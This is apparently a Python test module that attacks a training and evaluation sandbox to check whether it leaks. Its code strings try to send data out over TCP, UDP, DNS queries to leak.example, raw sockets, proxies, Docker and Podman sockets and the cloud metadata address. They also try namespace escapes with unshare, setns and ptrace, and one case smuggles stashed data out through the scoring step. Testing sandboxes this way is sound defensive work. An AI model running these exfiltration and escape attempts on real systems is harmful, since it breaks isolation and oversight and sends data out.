"""Ways out by a network, to whoever listens."""

from typing import Final

from tests.integration.leaks.attacks.attack import Attack
from tests.integration.leaks.attacks.programs import SCORE, only, stashing, training

_TCP = """
hosts = ["127.0.0.1", "localhost", "10.88.0.1", "169.254.169.254", "host.containers.internal", "192.0.2.1", "::1"]
def tell(host, port):
    with socket.create_connection((host, port), timeout=2) as one:
        one.sendall(TEXT)
for host in hosts:
    attempt(f"tcp {host}", tell, host, PLACES["tcp"])
"""
_UDP = """
def tell(family, host, port, option=None):
    with socket.socket(family, socket.SOCK_DGRAM) as one:
        if option:
            one.setsockopt(*option, 1)
        for row in WORDS:
            one.sendto(row.encode(), (host, port))
broadcast = (socket.SOL_SOCKET, socket.SO_BROADCAST)
attempt("udp", tell, socket.AF_INET, "127.0.0.1", PLACES["udp"])
attempt("udp outside", tell, socket.AF_INET, "192.0.2.1", 53)
attempt("broadcast", tell, socket.AF_INET, "255.255.255.255", PLACES["udp"], broadcast)
attempt("multicast", tell, socket.AF_INET6, "ff02::1", PLACES["udp"])
attempt("every address", tell, socket.AF_INET, "0.0.0.0", PLACES["udp"])
"""
_DNS = """
for word in WORDS[:5]:
    attempt("name", socket.getaddrinfo, f"{word}.leak.example", 80)
    attempt("short name", socket.gethostbyname, word)
query = lambda word: b"\\0\\1\\1\\0\\0\\1" + bytes(6) + bytes([len(word)]) + word.encode() + b"\\4leak\\0\\0\\1\\0\\1"
def ask(server, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(query(WORDS[0]), (server, port))
for server in ("127.0.0.1", "127.0.0.11", "127.0.0.53", "10.88.0.1", "8.8.8.8"):
    attempt(f"dns {server}", ask, server, 53)
attempt("dns to a listener", ask, "127.0.0.1", PLACES["udp"])
attempt("resolv.conf", lambda: open("/etc/resolv.conf").read())
"""
_RAW = """
kinds = {"raw": (socket.AF_INET, socket.SOCK_RAW, 1), "packet": (socket.AF_PACKET, socket.SOCK_RAW, 0),
         "netlink": (socket.AF_NETLINK, socket.SOCK_RAW, 0), "vsock": (40, socket.SOCK_STREAM, 0),
         "bluetooth": (31, socket.SOCK_RAW, 1), "alg": (38, socket.SOCK_SEQPACKET, 0), "xdp": (44, socket.SOCK_RAW, 0)}
for name, kind in kinds.items():
    one = attempt(name, socket.socket, *kind)
    if one and name == "vsock":
        attempt("vsock to the host", one.connect, (2, 1024))
    if one and name in ("raw", "packet"):
        attempt("send", one.sendto, TEXT, ("127.0.0.1", 0))
"""
_UNIX = """
def tell(address):
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(2)
        one.connect(address)
        one.sendall(TEXT)
attempt("abstract socket", tell, PLACES["unix"])
names = ["/run/podman/podman.sock", "/var/run/docker.sock", "/run/haproxy/admin.sock", "/run/systemd/private",
         "/run/dbus/system_bus_socket", "/run/containerd/containerd.sock", VM + "/serving/haproxy.sock", "/dev/log"]
for name in names:
    attempt(name, tell, name)
for folder, _, files in os.walk("/", followlinks=False):
    if not folder.startswith(("/proc", "/sys")):
        for file in files:
            path = os.path.join(folder, file)
            if os.path.exists(path) and os.stat(path).st_mode & 0o170000 == 0o140000:
                print("a socket:", path)
                attempt(path, tell, path)
"""
_PROXY = """
import urllib.request
for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "ALL_PROXY"):
    print(name, os.environ.get(name))
proxies = {"http": f"http://127.0.0.1:{PLACES['tcp']}"}
for handler in ([], [urllib.request.ProxyHandler(proxies)]):
    opener = urllib.request.build_opener(*handler)
    for url in (f"http://127.0.0.1:{PLACES['tcp']}/", "http://example.com/", "http://169.254.169.254/metadata/instance"):
        attempt(url, opener.open, url, TEXT, 3)
"""
_NAMESPACES = """
NEWUSER, NEWNET, NEWNS = 0x10000000, 0x40000000, 0x00020000
attempt("a network namespace", call, "unshare", NEWNET)
attempt("a user namespace", call, "unshare", NEWUSER | NEWNET)
attempt("a mount namespace", call, "unshare", NEWNS)
for pid in ("1", "self"):
    for kind in ("net", "mnt", "user", "pid"):
        attempt(f"namespace {kind} of {pid}", lambda: call("setns", os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0))
attempt("mount", call, "mount", b"none", b"/tmp", b"tmpfs", 0, None)
attempt("a device", os.mknod, "/tmp/disk", 0o60666, os.makedev(8, 0))
attempt("trace", call, "ptrace", 16, 1, 0, 0)
attempt("tun", lambda: os.open("/dev/net/tun", os.O_RDWR))
for program in ("ip", "nsenter", "unshare", "curl", "wget", "nc", "ssh", "ping"):
    attempt(program, subprocess.run, [program, "--help"], capture_output=True, check=True)
"""

ATTACKS: Final = (
    Attack(name="tcp", train=training(_TCP), ends="completed", always=True),
    Attack(name="udp", train=training(_UDP), ends="completed", always=True),
    Attack(name="dns", train=training(_DNS), ends="completed"),
    Attack(name="raw-sockets", train=training(_RAW), ends="completed"),
    Attack(name="unix-sockets", train=training(_UNIX), ends="completed", always=True),
    Attack(name="proxy", train=training(_PROXY), ends="completed"),
    Attack(name="namespaces", train=training(_NAMESPACES), ends="completed"),
    Attack(
        name="network-of-evaluation",
        train=training(""),
        evaluate=only(f"{_TCP}{_UDP}{_UNIX}\nmeasured()"),
        ends="completed",
        tries=("train", "evaluate"),
    ),
    Attack(
        name="network-of-the-answer",
        train=stashing(),
        score=f"""
import sys
sys.argv += ["--model", "/edgetrain/model"]
import leak
from leak import *
TEXT = zlib.decompress((MODEL / "stash.bin").read_bytes()[1:])
WORDS = [line.split(",")[0] for line in TEXT.decode().splitlines()[1:]]
{_TCP}{_UDP}
tried()
{SCORE}""",
        ends="completed",
        tries=("train", "smoke"),
    ),
)
